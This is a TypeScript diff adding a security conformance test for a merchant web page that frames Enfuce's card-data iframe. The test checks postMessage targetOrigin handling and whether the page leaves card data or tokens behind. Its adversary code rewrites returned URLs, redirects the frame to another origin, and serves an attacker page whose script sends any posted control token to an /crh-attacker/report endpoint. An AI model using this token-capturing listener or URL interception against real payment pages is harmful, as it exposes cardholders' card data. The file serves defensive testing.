@@ -1,0 +1,240 @@
+// Enfuce's client side: a merchant's web page that frames the card-data page (the document's
+// Process description, step 4, desktop browser). The harness plays Enfuce: its adversary stands in
+// front of the reference mock, records the control tokens issued, points the returned URLs at
+// itself, and in one case sends the frame to another origin before the page posts its token.
+// Chromium opens the page; what the provider's frame received is recorded inside the frame.
+import { defineRequirements } from '../../core/requirements.ts';
+import { STANDARDS } from '../../core/standards.ts';
+import type { Answer, Exchange, Interceptor } from '../../client/adversary.ts';
+import type { ClientFinding } from '../../client/record.ts';
+import type { CaseVerdict, PageCase, PageCaseAdversary, PageObservation, PageSide } from '../../client/side.ts';
+import { enfuceCatalogue } from './catalogue.ts';
+
+const PAGE = 'the merchant page that frames cardDataFrameUrl';
+
+export const enfuceClientRequirements = defineRequirements({
+  'ENF-CLIENT-FRAME': {
+    endpoint: PAGE,
+    section: 'Process description, step 4 (desktop browser)',
+    text: 'Desktop browser opens iframe to cardDataFrameUrl with query parameter key. After that is loaded, parent page makes window.postMessage() call to the iframe. Posted message object contains field operation with value view-pan and field token: the card shows in the frame.',
+    source: 'document',
+    severity: 'blocker',
+  },
+  'ENF-CLIENT-TARGET-ORIGIN': {
+    endpoint: PAGE,
+    section: 'Process description, step 4 (the example posts to cardDataFrameUrl)',
+    text: "The token is posted with the frame's origin as targetOrigin (the example passes cardDataFrameUrl), never '*': a frame sent elsewhere before the post receives nothing.",
+    source: 'standard',
+    severity: 'blocker',
+    cites: [STANDARDS.htmlPostMessageTarget],
+  },
+  'ENF-CLIENT-NO-TRACE': {
+    endpoint: PAGE,
+    section: 'PCI and security considerations',
+    text: 'No card data is stored in the process: the page keeps neither the PAN nor the control token in its storage, cookies, URL or console.',
+    source: 'document',
+    severity: 'critical',
+  },
+});
+
+const FRAME_KEY = 'crh-client-page';
+/** The page's backend is given the API, its credentials, the card and the agreed key: never the card's values. */
+const BACKEND_VARS = ['ENFUCE_USERNAME', 'ENFUCE_PASSWORD', 'ENFUCE_CARD_ID', 'ENFUCE_FRAME_KEY'] as const;
+const ATTACKER = '/crh-attacker';
+
+const html = (body: string): Answer => ({
+  status: 200,
+  headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' },
+  body: Buffer.from(body),
+});
+// A page of another origin that reports whatever it is posted (the token, if the page posts with '*').
+const ATTACKER_PAGE = `<!doctype html><title>elsewhere</title><script>
+addEventListener('message', (e) => fetch('${ATTACKER}/report', { method: 'POST', body: JSON.stringify({ data: e.data, origin: e.origin }) }));
+</script>`;
+
+/** One case's Enfuce: records the tokens, points the returned URLs at itself, and sends the frame elsewhere when told. */
+function enfuceAdversary(vars: Record<string, string>, self: { url: string }, redirectFrame: boolean) {
+  const mockOrigin = new URL(vars.ENFUCE_BASE_URL!).origin;
+  const tokens = new Set<string>();
+  const reports: { data: unknown; origin: string }[] = [];
+  let framePath: string | undefined;
+  let attackerAt: number | undefined;
+  let frameRequests = 0;
+  const interceptor: Interceptor = {
+    own(r: Exchange) {
+      const path = r.path.split('?')[0];
+      if (path === ATTACKER) {
+        attackerAt ??= Date.now();
+        return html(ATTACKER_PAGE);
+      }
+      if (path === `${ATTACKER}/report`) {
+        try {
+          reports.push(JSON.parse(r.body.toString('utf8')) as { data: unknown; origin: string });
+        } catch {
+          // not a report
+        }
+        return { status: 204, headers: {}, body: Buffer.alloc(0) };
+      }
+      if (path === framePath) {
+        frameRequests++;
+        // The same server under another name is another origin: the page's targetOrigin no longer matches.
+        if (redirectFrame)
+          return {
+            status: 302,
+            headers: { location: `${self.url.replace('127.0.0.1', 'localhost')}${ATTACKER}` },
+            body: Buffer.alloc(0),
+          };
+      }
+      return undefined;
+    },
+    answer(r, a) {
+      if (!/\/controlToken(\?|$)/.test(r.path.split('?')[0]!) || a.status !== 201) return a;
+      const body = JSON.parse(a.body.toString('utf8')) as Record<string, unknown>;
+      if (typeof body.token === 'string') tokens.add(body.token);
+      for (const k of ['cardDataUrl', 'cardDataFrameUrl'])
+        if (typeof body[k] === 'string') body[k] = (body[k] as string).replace(mockOrigin, self.url);
+      if (typeof body.cardDataFrameUrl === 'string') framePath = new URL(body.cardDataFrameUrl).pathname;
+      return { ...a, body: Buffer.from(JSON.stringify(body)) };
+    },
+  };
+  return {
+    interceptor,
+    env: (_: Record<string, string>, url: string) => ({
+      ENFUCE_BASE_URL: url,
+      ...Object.fromEntries(BACKEND_VARS.flatMap((k) => (vars[k] !== undefined ? [[k, vars[k]]] : []))),
+    }),
+    tokens,
+    reports,
+    attackerAt: () => attackerAt,
+    frameRequests: () => frameRequests,
+  };
+}
+
+const has = (text: string, values: Iterable<string>) => [...values].some((v) => v && text.includes(v));
+/** A posted message described without its token. */
+const described = (data: unknown): string =>
+  data && typeof data === 'object'
+    ? `an object with ${Object.keys(data).sort().join(', ') || 'no fields'}${'operation' in data ? ` (operation ${JSON.stringify((data as { operation: unknown }).operation)})` : ''}`
+    : `a ${typeof data}`;
+
+function frameFindings(seen: PageObservation, tokens: Set<string>): ClientFinding[] {
+  const rule = 'ENF-CLIENT-FRAME';
+  const check = "after the frame's load, {operation: 'view-pan', token} is posted to it, and the card shows";
+  const f = (expected: string, received: string): ClientFinding[] => [{ requirement: rule, check, expected, received }];
+  if (seen.error) return f('the page served and opened', seen.error);
+  if (!tokens.size)
+    return f('a control token asked for by the backend', 'no POST /v4/card/{cardId}/controlToken reached Enfuce');
+  if (!seen.frameMessages.length)
+    return f(
+      'a message to the frame once it has loaded',
+      `the frame received no message (it is ${seen.frameState || 'not there'}): posted before the frame had loaded, or never`,
+    );
+  const exact = seen.frameMessages.filter(
+    (m) =>
+      m.data !== null &&
+      typeof m.data === 'object' &&
+      Object.keys(m.data).sort().join() === 'operation,token' &&
+      (m.data as { operation: unknown }).operation === 'view-pan' &&
+      tokens.has(String((m.data as { token: unknown }).token)),
+  );
+  if (!exact.length)
+    return f(
+      "{operation: 'view-pan', token} with the token Enfuce issued",
+      seen.frameMessages.map((m) => described(m.data)).join('; '),
+    );
+  if (seen.frameState !== 'shown')
+    return f('the card shown in the frame', `the frame is ${seen.frameState || 'not there'}`);
+  return [];
+}
+
+function traceFindings(seen: PageObservation, tokens: Set<string>, pan: string | undefined): ClientFinding[] {
+  return seen.places.flatMap((p) => {
+    const what = [
+      ...(has(p.text, tokens) ? ['the control token'] : []),
+      ...(pan && p.text.includes(pan) ? ['the PAN'] : []),
+    ];
+    return what.length
+      ? [
+          {
+            requirement: 'ENF-CLIENT-NO-TRACE',
+            check: 'no token or card data kept by the page',
+            expected: `nothing of the card in ${p.where}`,
+            received: `${what.join(' and ')} in ${p.where}`,
+          },
+        ]
+      : [];
+  });
+}
+
+const honest: PageCase = {
+  name: 'honest',
+  title: 'the token and the frame as Enfuce gives them: the card shows in the frame, and the page keeps nothing',
+  requirements: ['ENF-CLIENT-FRAME', 'ENF-CLIENT-NO-TRACE'],
+  served: 'the honest token answer and frame',
+  adversary(vars, self): PageCaseAdversary {
+    const a = enfuceAdversary(vars, self, false);
+    return {
+      ...a,
+      settled: (seen) => seen.frameState === 'shown' || seen.frameState === 'refused',
+      judge: (seen): CaseVerdict => {
+        const frame = frameFindings(seen, a.tokens);
+        const traces = seen.error ? [] : traceFindings(seen, a.tokens, vars.ENFUCE_CARD_PAN);
+        return {
+          findings: [...frame, ...traces],
+          ...(seen.error ? { unjudged: { 'ENF-CLIENT-NO-TRACE': 'the page did not open' } } : {}),
+        };
+      },
+    };
+  },
+};
+
+const redirected: PageCase = {
+  name: 'frame-redirected',
+  title: 'the frame sent to another origin before the post: the token must not reach it',
+  requirements: ['ENF-CLIENT-TARGET-ORIGIN'],
+  served: 'a frame URL that redirects to a page of another origin',
+  adversary(vars, self): PageCaseAdversary {
+    const a = enfuceAdversary(vars, self, true);
+    return {
+      ...a,
+      // Settled when the other origin got a message, or 1.5 s after its page loaded without one.
+      settled: () => a.reports.length > 0 || (a.attackerAt() !== undefined && Date.now() - a.attackerAt()! > 1500),
+      judge: (): CaseVerdict => {
+        if (!a.tokens.size || !a.frameRequests())
+          return { notRun: 'the page asked for no token, or opened no frame: nothing to post' };
+        const leaked = a.reports.filter((r) => has(JSON.stringify(r.data ?? ''), a.tokens));
+        return {
+          findings: leaked.length
+            ? [
+                {
+                  requirement: 'ENF-CLIENT-TARGET-ORIGIN',
+                  check: "the token is posted to the frame's origin only",
+                  expected: 'nothing received by the page the frame was sent to',
+                  received: `the control token received by ${new URL(self.url.replace('127.0.0.1', 'localhost')).origin} (targetOrigin '*')`,
+                },
+              ]
+            : [],
+        };
+      },
+    };
+  },
+};
+
+export const enfuceClientPage: PageSide = {
+  provider: 'enfuce',
+  title: 'Enfuce — a web page that frames the card data',
+  document: enfuceCatalogue.document,
+  requirements: Object.values(enfuceClientRequirements),
+  cases: [honest, redirected],
+  async prepare(mockUrl, vars, pageOrigin) {
+    // The key Enfuce agrees with a merchant for its page's origin (onboarding).
+    const r = await fetch(`${mockUrl}/__mock/frame-keys`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ key: FRAME_KEY, origin: pageOrigin }),
+    });
+    if (r.status !== 201) throw new Error(`the mock did not agree a frame key (${r.status})`);
+    return { ...vars, ENFUCE_FRAME_KEY: FRAME_KEY, ENFUCE_FRAME_ORIGIN: pageOrigin };
+  },
+  card: (vars) => ({ pan: vars.ENFUCE_CARD_PAN, cvv: vars.ENFUCE_CARD_CVV2 }),
+};
